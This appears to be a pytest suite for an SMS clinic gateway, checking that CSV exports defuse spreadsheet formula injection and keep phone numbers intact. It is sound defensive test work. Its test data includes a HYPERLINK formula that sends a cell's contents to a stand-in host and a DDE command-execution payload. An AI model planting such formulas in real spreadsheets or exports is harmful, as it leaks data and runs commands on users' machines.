"""Every CSV export (consent ledger, outbox, inbox) follows one cell rule, `smsgate.spreadsheet.csv_cell`:
text a spreadsheet would run becomes text, E.164 numbers keep their `+`, nothing else changes."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from web_helpers import PASSWORD, PATIENT, WebEnv, add_modem, make_env, receive

from smsgate.clinic_time import ClinicClock
from smsgate.keywords import consent_csv
from smsgate.queue import Store
from smsgate.queue.enqueue import text_problem
from smsgate.spreadsheet import csv_cell, write_csv

PACKAGE = Path(__file__).resolve().parent.parent / "smsgate"

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "\n=1+1"]
PLAIN = ["hello", "", "1+1", "see you at 3", "O'Brien", "'already quoted", " =1+1 (a space first)"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_becomes_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_a_cell_that_is_not_a_formula_stays_as_it_is(text: str) -> None:
    assert csv_cell(text) == text


@pytest.mark.parametrize("number", ["+15555550104", "+442071838750", "+33142685300"])
def test_an_e164_number_is_quoted_so_the_plus_survives(number: str) -> None:
    assert csv_cell(number) == "'" + number


@pytest.mark.parametrize(("value", "cell"), [(None, ""), (7, "7"), (-3, "-3"), (2.5, "2.5"), (True, "True")])
def test_numbers_we_store_are_written_as_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_write_csv_writes_the_header_and_counts_the_rows() -> None:
    out = io.StringIO()
    assert write_csv(out, ["a", "b"], [["=1", 2], ["x,y", None]]) == 2
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["a", "b"], ["'=1", "2"], ["x,y", ""]]


def test_every_export_writes_csv_through_the_one_rule() -> None:
    writers = sorted(str(p.relative_to(PACKAGE)) for p in PACKAGE.rglob("*.py")
                     if "csv.writer(" in p.read_text(encoding="utf-8"))
    assert writers == ["spreadsheet.py"]


# -- the consent ledger ---------------------------------------------------------------------------

@pytest.mark.parametrize("hostile", FORMULAS)
def test_the_consent_export_defuses_hostile_notes_and_keeps_numbers_whole(tmp_path: Path, hostile: str) -> None:
    with Store.open(tmp_path / "smsgate.db") as store:
        store.consent.record(PATIENT, "opt_out", source="sms", actor=hostile, evidence=hostile)
        store.consent.record("+442071838750", "opt_in", scope="newsletter", source="web", actor="web:ada",
                             evidence="signed form")
        out = io.StringIO()
        assert consent_csv(store, out, clock=ClinicClock.named("America/New_York")) == 2
    header, first, second = list(csv.reader(io.StringIO(out.getvalue())))
    row = dict(zip(header, first, strict=True))
    assert (row["number"], row["actor"], row["evidence"]) == ("'" + PATIENT, "'" + hostile, "'" + hostile)
    assert dict(zip(header, second, strict=True))["number"] == "'+442071838750"
    assert dict(zip(header, second, strict=True))["evidence"] == "signed form"


# -- the page exports ------------------------------------------------------------------------------

@pytest.fixture
def env(tmp_path: Path) -> Iterator[WebEnv]:
    e = make_env(tmp_path)
    e.store.accounts.add_user("sam", PASSWORD, "staff", actor="test")
    yield e
    e.store.close()


def _export(env: WebEnv, what: str) -> list[dict[str, str]]:
    response = env.login("sam").get(f"/export/{what}.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("hostile", [*FORMULAS, "hello", "1+1"])
def test_the_page_exports_defuse_hostile_text_and_keep_numbers_whole(env: WebEnv, hostile: str) -> None:
    receive(env.store, add_modem(env.store), PATIENT, hostile)
    if text_problem(hostile) is None:
        msg = env.store.outbox.enqueue(PATIENT, hostile).id
    else:
        # The queue refuses a tab now; a text queued before that rule can still be in the outbox.
        msg = env.store.outbox.enqueue(PATIENT, "placeholder").id
        env.store.execute("UPDATE messages SET body = ? WHERE id = ?", (hostile, msg))
    env.store.outbox.cancel(msg, actor="test", reason=hostile)
    expected = csv_cell(hostile)
    (out,) = _export(env, "outbox")
    assert (out["id"], out["to_number"], out["body"]) == (str(msg), "'" + PATIENT, expected)
    (inbound,) = _export(env, "inbound")
    assert (inbound["sender"], inbound["body"]) == ("'" + PATIENT, expected)
